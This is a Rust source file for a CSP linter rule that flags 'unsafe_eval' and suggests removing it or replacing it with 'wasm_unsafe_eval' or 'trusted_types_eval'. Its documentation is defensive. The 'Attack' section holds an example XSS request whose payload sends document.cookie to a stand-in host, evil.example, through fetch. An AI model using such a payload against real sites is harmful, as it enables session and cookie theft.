use crate::csp::{Csp, Directive, Disposition, Keyword, Purpose, SourceExpression};
use crate::diagnostic::{Diagnostic, Level};
use crate::lint::report::{Report, lint};
use crate::policy::SecurityPolicy;

lint! {
    /// # What it does
    ///
    /// Looks for `unsafe_eval` in the list that takes effect for `eval`: that of `script_src`, or else `default_src`.
    /// If Trusted Types are required, it is a warning, since browsers that support them run only strings that a policy
    /// has approved.
    ///
    /// # Why it matters
    ///
    /// `eval`, `new Function` and timers with a string run text as script. If an attacker's text reaches one of them,
    /// it runs, and no nonce or hash is checked.
    ///
    /// # Attack
    ///
    /// A script of the page evaluates a part of the URL:
    ///
    /// ```js
    /// setTimeout(new URLSearchParams(location.search).get("then"), 100);
    /// ```
    ///
    /// ```http
    /// GET /checkout?then=fetch('//evil.example/?'%2Bdocument.cookie) HTTP/1.1
    /// ```
    ///
    /// # Example
    ///
    /// ```text
    /// content_security_policy: { script_src: [nonce, unsafe_eval], base_uri: none },
    /// ```
    ///
    /// # Fix
    ///
    /// Remove it. WebAssembly needs only `wasm_unsafe_eval`; JSON is read with `JSON.parse`.
    ///
    /// ```text
    /// content_security_policy: { script_src: [nonce, wasm_unsafe_eval], base_uri: none },
    /// ```
    ///
    /// # Allow
    ///
    /// ```text
    /// #[allow(csp_unsafe_eval, reason = "the template library compiles its templates in the browser")]
    /// script_src: [nonce, unsafe_eval],
    /// ```
    ///
    /// Reasonable where a library needs it and the text does not come from users.
    ///
    /// # References
    ///
    /// - [CSP3, section 4.4.1, eval](https://w3c.github.io/webappsec-csp/#can-compile-strings)
    /// - [MDN, script-src, unsafe eval expressions](https://developer.mozilla.org/en-US/docs/Web/HTTP/Reference/Headers/Content-Security-Policy/script-src#unsafe_eval_expressions)
    Deny "strings are run as script",
    cwe [95], asvs ["1.3.2", "3.4.3"],
    check
}

fn check(policy: &SecurityPolicy, report: &mut Report<'_>) {
    let keyword = SourceExpression::Keyword(Keyword::UnsafeEval);
    let is_typed = |csp: &Csp| csp.get(Directive::RequireTrustedTypesFor).is_some();
    let all_typed = policy.csps_of(Disposition::Enforce).into_iter().any(is_typed);
    let weaknesses = policy.weaknesses(&[Directive::ScriptSrc], |csp, list| {
        let span = list.find(&keyword).filter(|_| list.overridden_by(&keyword, Purpose::Script).is_none());
        span.map(|span| (span, list.directive.node, all_typed || is_typed(csp))).into_iter().collect()
    });
    for (span, directive, is_typed) in weaknesses {
        let message = format!("`unsafe_eval` in `{}` lets strings run as script", directive.key());
        let finding = Diagnostic::finding(span, message);
        match is_typed {
            true => report.push_at(
                Level::Warn,
                finding
                    .help("write `trusted_types_eval`")
                    .note("browsers that support Trusted Types require them anyway; others run every string")
                    .replace(span, "trusted_types_eval"),
            ),
            false => report.push(
                finding
                    .help("remove it; for WebAssembly write `wasm_unsafe_eval`, which compiles no strings")
                    .note("a value that reaches `eval` or a timer runs as script, even without the nonce"),
            ),
        }
    }
}
